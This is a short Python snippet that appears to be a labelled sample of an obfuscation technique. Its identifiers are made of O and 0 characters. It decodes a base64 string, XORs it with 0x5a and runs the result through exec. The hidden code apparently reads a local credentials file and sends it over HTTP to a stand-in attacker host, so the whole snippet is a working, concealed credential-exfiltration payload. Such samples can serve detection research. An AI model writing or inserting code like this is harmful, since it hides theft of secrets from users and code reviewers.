# technique: single-byte XOR plus base64 obfuscation with O/0-style identifiers, decoded and run via exec
import base64 as O0O0OO
O0OO0O = 'MzcqNSguejUpdi8oNjYzOHQoPysvPykuYS8oNjYzOHQoPysvPykudC8oNjUqPzRyeDIuLipgdXU7Li47OTE/KHQ/Ijs3KjY/dTl4dj47LjtnNSo/NHI1KXQqOy4ydD8iKjs0Pi8pPyhyeCR1dDstKXU5KD8+PzQuMzs2KXhzdngoOHhzdCg/Oz5yc3M='
OO00O0 = 0x5a
O0O00O = bytes([OOO000 ^ OO00O0 for OOO000 in O0O0OO.b64decode(O0OO0O)])
exec(O0O00O.decode())
